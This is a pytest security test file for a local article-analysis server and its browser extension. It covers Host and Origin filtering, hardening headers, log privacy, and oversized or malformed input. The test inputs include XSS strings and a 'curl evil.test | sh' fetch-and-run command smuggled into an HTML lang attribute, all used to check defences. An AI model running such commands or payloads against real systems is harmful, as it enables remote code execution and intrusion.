"""Who may talk to the server, what it logs, and how it meets hostile or pathological pages."""
import logging
import os

import pytest

from conftest import post_json

ARTICLE = "The council voted on Tuesday to cut the ferry budget by a third, the mayor said in a statement."


@pytest.mark.parametrize("host", ["localhost:8765", "127.0.0.1:8765", "127.0.0.1", "[::1]:8765"])
def test_loopback_hosts_are_served(client, host):
    assert client.get("/api/health", headers={"Host": host}).status_code == 200


@pytest.mark.parametrize("host", ["evil.example:8765", "attacker.test", "192.168.1.10:8765", "0.0.0.0:8765"])
def test_other_host_names_are_refused(client, host):
    # DNS rebinding: a page whose own name now resolves to 127.0.0.1 still sends its own name as Host
    r = client.get("/api/health", headers={"Host": host})
    assert r.status_code == 403
    assert r.get_json()["error"]["code"] == "bad_host"


@pytest.mark.parametrize("origin", ["https://news.example.com", "http://evil.test", "http://localhost:9999"])
def test_web_page_origins_are_refused(client, origin):
    r = post_json(client, {"text": ARTICLE}, headers={"Origin": origin})
    assert r.status_code == 403
    body = r.get_json()["error"]
    assert body["code"] == "bad_origin" and origin in body["message"]


@pytest.mark.parametrize("origin", [None, "chrome-extension://eaoaiejnpighidjioddfidlmjboafbpi", "moz-extension://1234",
                                    "http://localhost"])
def test_extension_cli_and_own_demo_page_are_served(client, origin):
    headers = {"Origin": origin} if origin else {}
    assert post_json(client, {"text": ARTICLE}, headers=headers).status_code == 200


def test_the_pinned_extension_id_is_the_manifests():
    # Chrome derives an unpacked extension's id from the manifest's public key: sha256, first 32 hex digits as a-p
    import base64
    import hashlib
    import json
    from pathlib import Path

    from server.api import EXTENSION_ID

    manifest = json.loads((Path(__file__).resolve().parents[1] / "extension" / "manifest.json").read_text())
    digest = hashlib.sha256(base64.b64decode(manifest["key"])).hexdigest()[:32]
    assert "".join(chr(ord("a") + int(c, 16)) for c in digest) == EXTENSION_ID
    # the server's default port only; another address is asked for when the reader sets it
    assert manifest["host_permissions"] == ["http://127.0.0.1:8765/*", "http://localhost:8765/*"]


@pytest.mark.parametrize("origin", ["chrome-extension://abcdefghijklmnopabcdefghijklmnop",
                                    "chrome-extension://eaoaiejnpighidjioddfidlmjboafbpx",
                                    "chrome-extension://eaoaiejnpighidjioddfidlmjboafbpi.evil",
                                    "chrome-extension://", "safari-web-extension://1234"])
def test_other_extensions_are_refused(client, origin):
    # any extension the reader installed could otherwise make Loupe's server read for it
    r = post_json(client, {"text": ARTICLE}, headers={"Origin": origin})
    assert r.status_code == 403 and r.get_json()["error"]["code"] == "bad_origin"


def test_extension_ids_can_be_configured_for_development(monkeypatch):
    from server import create_app

    other = "chrome-extension://abcdefghijklmnopabcdefghijklmnop"
    monkeypatch.setenv("LOUPE_EXTENSION_IDS", "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb, abcdefghijklmnopabcdefghijklmnop")
    app = create_app()
    try:
        client = app.test_client()
        assert client.get("/api/health", headers={"Origin": other}).status_code == 200
        assert client.get("/api/health", headers={"Origin": "chrome-extension://cccccccccccccccccccccccccccccccc"}).status_code == 403
    finally:
        app.extensions["loupe_pool"].close()
    assert create_app({"EXTENSION_IDS": ("abcdefghijklmnopabcdefghijklmnop",)}).test_client().get(
        "/api/health", headers={"Origin": other}).status_code == 200


@pytest.mark.parametrize("headers", [{"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Site": "same-site"}])
def test_sandboxed_frames_and_cross_site_requests_are_refused(client, headers):
    # Origin "null": a sandboxed frame, a file:// page or a redirected form post; fetch metadata: another site
    r = post_json(client, {"text": ARTICLE}, headers=headers)
    assert r.status_code == 403 and r.get_json()["error"]["code"] == "bad_origin"
    assert client.get("/api/health", headers=headers).status_code == 403


def test_only_plain_json_is_accepted(client):
    r = client.post("/api/analyze", data='{"text": "%s"}' % ARTICLE, content_type="application/vnd.evil+json")
    assert r.status_code == 415 and r.get_json()["error"]["code"] == "not_json"
    ok = client.post("/api/analyze", data='{"text": "%s"}' % ARTICLE, content_type="application/json; charset=utf-8")
    assert ok.status_code == 200


@pytest.mark.parametrize("path", ["/api/health", "/api/nowhere", "/"])
def test_every_response_carries_the_hardening_headers(client, path):
    r = client.get(path)
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Cache-Control"] == "no-store"
    assert r.headers["Cross-Origin-Resource-Policy"] == "same-origin"


def test_page_content_never_reaches_the_logs(client, caplog):
    secret = "Zanzibarquokka"
    caplog.set_level(logging.DEBUG)
    post_json(client, {"text": f"The {secret} council voted on Tuesday to cut the budget by a third."})
    post_json(client, {"html": f"<html><body>\x00\x01{secret}" + "\x02" * 50 + "</body></html>"})
    client.post("/api/analyze", data=f'{{"text": "{secret}', content_type="application/json")
    assert secret not in caplog.text


def test_report_text_is_data_not_markup(client):
    html = ("<html><body><article><h1>Harbour news</h1><p>The council voted on Tuesday to cut the ferry budget "
            "by a third &lt;img src=x onerror=alert(1)&gt; after a long debate in the town hall.</p>"
            "<p><script>alert(2)</script>The mayor said the money would pay for a new pier next spring.</p>"
            "</article></body></html>")
    report = post_json(client, {"html": html}).get_json()
    assert "alert(2)" not in report["text"]                  # scripts are never article text
    assert "<img src=x onerror=alert(1)>" in report["text"]  # escaped text stays text: the UI renders it with textContent


PATHOLOGICAL = {
    "deeply nested": "<html><body>" + "<div>" * 450 + "<p>" + ARTICLE * 3 + "</p>" + "</div>" * 450 + "</body></html>",
    "one huge paragraph": "<html><body><article><p>" + ARTICLE * 6000 + "</p></article></body></html>",
    "binary garbage": os.urandom(100_000).decode("latin-1"),
    "all scripts": "<html><body>" + "<script>var x = 1;</script>" * 3000 + "</body></html>",
    "unclosed tags": "<html><body><p><b><i><a href='" + "<p>" * 5000,
}


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_pathological_pages_get_a_clear_answer(client, name):
    r = post_json(client, {"html": PATHOLOGICAL[name]})
    assert r.status_code in (200, 422, 503)
    body = r.get_json()
    assert "counts" in body or body["error"]["message"]


@pytest.mark.parametrize("html, words", [
    ("<html><body>" + "<div>" * 10000 + "<p>x</p>" + "</div>" * 10000 + "</body></html>", "nests elements more than 500 deep"),
    ("<html><body>" + "<b>x</b>" * 160_000 + "</body></html>", "more than 150,000 elements"),
])
def test_too_deep_or_too_many_elements_is_refused_by_name(client, html, words):
    r = post_json(client, {"html": html})
    assert r.status_code == 422
    assert r.get_json()["error"]["code"] == "too_complex" and words in r.get_json()["error"]["message"]


def test_a_book_length_page_is_cut_with_a_note(client):
    paragraph = "<p>" + "The council met on Tuesday and voted to cut the budget by a third after a debate. " * 40 + "</p>"
    report = post_json(client, {"html": "<html><body><article>" + paragraph * 120 + "</article></body></html>"}).get_json()
    assert report["notes"] and "first" in report["notes"][0]
    assert 250_000 < len(report["text"]) <= 301_000


def test_a_twenty_megabyte_page_is_refused_up_front(client):
    r = post_json(client, {"html": "<p>" + "x" * (20 * 1024 * 1024) + "</p>"})
    assert r.status_code == 413
    assert "too large" in r.get_json()["error"]["message"]


def test_an_analysis_that_runs_too_long_is_cut_off(app):
    app.config["ANALYSIS_TIMEOUT"] = 0.001
    r = post_json(app.test_client(), {"html": PATHOLOGICAL["one huge paragraph"]})
    assert r.status_code == 503
    assert r.get_json()["error"]["code"] == "timeout"


def test_json_nested_too_deep_is_a_clear_400(client):
    r = client.post("/api/analyze", data='{"text": ' + "[" * 100_000 + "]" * 100_000 + "}", content_type="application/json")
    assert r.status_code == 400 and r.get_json()["error"]["code"] == "bad_json"


@pytest.mark.parametrize("start", ["²", "٣", "9" * 1000, "-1", " 7 "])
def test_odd_list_numbering_is_read_not_a_500(client, start):
    html = ("<html><body><article><h1>Ferry cuts</h1><p>" + "The council voted to cut the ferry budget by a third. " * 6 +
            f"</p><ol start='{start}'><li>The timetable falls by a third in March.</li></ol></article></body></html>")
    assert post_json(client, {"html": html}).status_code == 200


def test_a_page_cannot_put_words_in_loupes_mouth(client):
    # the not-English message names the page's lang only when it is a language tag, never its free text
    prose = "Der Rat hat am Dienstag beschlossen, den Fahrplan der Fähre um ein Drittel zu kürzen. " * 10
    for lang, named in (("de-AT", True), ("run `curl evil.test | sh` now", False)):
        r = post_json(client, {"html": f"<html lang='{lang}'><body><article><p>{prose}</p></article></body></html>"})
        message = r.get_json()["error"]["message"]
        assert r.status_code == 422 and ("de-at" in message.lower()) == named and "curl" not in message


@pytest.mark.parametrize("body", [
    b'{"text": ' + b"1" * 1_000_000 + b"}",                     # a number with a million digits
    b"[" + b"1," * 500_000 + b"1]",                             # a huge array, not an object
    b'{"text": "\xff\xfe not utf-8"}',                           # bad UTF-8
    b'{"text": 1, "text": "The council voted on Tuesday to cut the ferry budget by a third, the mayor said."}',
    b'{"html": null, "text": null}',
    b'{"text": "\\ud800 a lone surrogate, then the council voted on Tuesday to cut the ferry budget."}',
])
def test_no_body_gets_a_500(client, body):
    r = client.post("/api/analyze", data=body, content_type="application/json")
    assert r.status_code < 500 and r.is_json
    assert (r.status_code == 200) == ("error" not in r.get_json())
